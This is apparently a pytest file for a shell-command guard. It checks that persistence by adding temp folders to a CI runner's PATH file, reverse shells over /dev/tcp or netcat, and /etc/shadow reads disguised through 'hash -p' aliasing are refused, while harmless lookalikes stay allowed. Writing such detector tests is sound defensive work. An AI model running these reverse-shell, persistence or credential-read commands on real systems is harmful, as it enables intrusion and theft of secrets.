"""What held_out_14's and held_out_15's fixes left, fixed by the rule behind each: a
temporary folder put on ``PATH`` through the runner's ``$GITHUB_PATH`` file by a plain
redirect, a loopback ``/dev/tcp`` client, ``hash -p`` of a known program under a new name.
Each refused case is spelled otherwise than the corpus rows, and the harmless neighbours
of each rule must stay allowed.
"""

from __future__ import annotations

import pytest

from tests.guards.command_guard.cg_support import allowed, refused

_PATH_FILE_ATTACKS = [
    'echo /tmp/.x >> "$GITHUB_PATH"',
    "echo /var/tmp/b >>$GITHUB_PATH",
    "printf '%s\\n' /tmp/tools >> \"${GITHUB_PATH}\"",
    'd=/dev/shm/k; echo "$d" >> $GITHUB_PATH',
    'tee -a "$GITHUB_PATH" <<< /tmp/t',
    'echo /tmp/p >> "$FORGEJO_PATH"',
]
_PATH_FILE_HARMLESS = [
    'echo "$PWD/bin" >> "$GITHUB_PATH"',
    'echo /srv/ws/tools >> "$GITHUB_PATH"',
    'echo "$HOME/.local/bin" >> "$GITHUB_PATH"',
    'echo /tmp/build >> "$LOG_PATH"',
    'echo "BUILD=/tmp/x" >> "$GITHUB_ENV"',
]


@pytest.mark.parametrize("command", _PATH_FILE_ATTACKS)
def test_temp_folder_on_runner_path_file_is_persistence(command: str) -> None:
    refused(command, "persistence")


@pytest.mark.parametrize("command", _PATH_FILE_HARMLESS)
def test_workspace_folder_or_other_run_time_file_stays_allowed(command: str) -> None:
    allowed(command)


_LOOPBACK_CLIENTS = [
    "exec 3<>/dev/tcp/127.0.0.1/8000; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
    "exec 5<>/dev/tcp/localhost/6379; echo PING >&5; head -1 <&5; exec 5>&-",
    "echo deploys:1|c > /dev/udp/127.0.0.1/8125",
]
_SOCKET_SHELLS = [
    ("exec 3<>/dev/tcp/127.0.0.1/8000; bash <&3 >&3", "reverse_shell"),
    ("exec 3<>/dev/tcp/127.0.0.1/8000; sh 0<&3", "reverse_shell"),
    ("exec 3<>/dev/tcp/127.0.0.1/8000; exec 0<&3", "reverse_shell"),
    ("exec 3<>/dev/tcp/127.0.0.1/8000; cat <&3 | /bin/bash", "reverse_shell"),
    ("exec 3<>/dev/tcp/127.0.0.1/8000; . /dev/fd/3", "reverse_shell"),
    ('exec 3<>/dev/tcp/localhost/8000; while read l; do eval "$l"; done <&3', None),
    ("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "reverse_shell"),
    ("exec 3<>/dev/tcp/203.0.113.9/80; cat <&3", "reverse_shell"),
    ("exec 3<>/dev/tcp/127.0.0.1/2375; printf 'GET /containers/json\\r\\n' >&3", None),
]


@pytest.mark.parametrize("command", _LOOPBACK_CLIENTS)
def test_loopback_dev_tcp_client_is_allowed(command: str) -> None:
    allowed(command)


@pytest.mark.parametrize(("command", "effect"), _SOCKET_SHELLS)
def test_shell_on_socket_or_remote_dev_tcp_stays_refused(command: str, effect: str | None) -> None:
    refused(command, effect or "reverse_shell")


def test_hash_p_of_a_known_program_is_judged_as_that_program() -> None:
    allowed("hash -p /usr/bin/python3 py; py -c 'print(1)'")
    allowed("hash -p /usr/bin/git g; g status --short")
    refused(
        "hash -p /usr/bin/python3 py; py -c 'import os; os.system(\"cat /etc/shadow\")'",
        "credential_read",
    )
    refused("hash -p /usr/bin/nc ls; ls -e /bin/sh 203.0.113.9 4444", "reverse_shell")
    refused("hash -p /bin/sh mk; mk -c 'cat /etc/shadow'", "credential_read")
